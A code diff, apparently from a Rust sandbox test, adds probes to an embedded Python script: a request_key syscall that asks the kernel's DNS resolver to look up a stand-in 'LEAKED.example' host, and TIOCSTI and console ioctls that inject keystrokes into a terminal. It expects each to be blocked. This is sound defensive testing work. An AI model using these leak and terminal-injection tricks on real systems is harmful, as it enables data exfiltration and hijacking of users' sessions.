@@ -12,7 +12,7 @@ use crate::{
 
 /// How each way is tried; what it ends in is printed behind its name.
 const TRIED: &str = r#"
-import array, ctypes, errno, os, socket, struct, sys, threading
+import array, ctypes, errno, fcntl, os, platform, socket, struct, sys, termios, threading
 def tried(way, act):
     try:
         act()
@@ -28,6 +28,11 @@ for name, arguments in {
 }.items():
     tried(name, lambda: socket.socket(*arguments))
 called("io_uring", libc.syscall(425, 8, ctypes.create_string_buffer(200)))
+# The kernel would ask a program of this machine's for the name.
+request_key = {"x86_64": 249, "aarch64": 218}[platform.machine()]
+called("request_key", libc.syscall(request_key, b"dns_resolver", b"LEAKED.example", b"", -3))
+tried("typing", lambda: fcntl.ioctl(0, termios.TIOCSTI, b"x"))
+tried("typing into a console", lambda: fcntl.ioctl(0, 0x541c, b"\x03"))
 outsider = int(os.environ["OUTSIDER"])
 "#;
 
@@ -47,7 +52,7 @@ for way in (libc.process_vm_readv, libc.process_vm_writev):
 print("all tried")
 "#;
 
-const SHUT: [&str; 13] = [
+const SHUT: [&str; 16] = [
     "vsock EAFNOSUPPORT",
     "packet EAFNOSUPPORT",
     "bluetooth EAFNOSUPPORT",
@@ -56,6 +61,9 @@ const SHUT: [&str; 13] = [
     "netfilter EPROTONOSUPPORT",
     "multipath ENOPROTOOPT",
     "io_uring ENOSYS",
+    "request_key ENOSYS",
+    "typing EIO",
+    "typing into a console EPERM",
     "pidfd_getfd ENOSYS",
     "ptrace EPERM",
     "process_vm_readv EPERM",
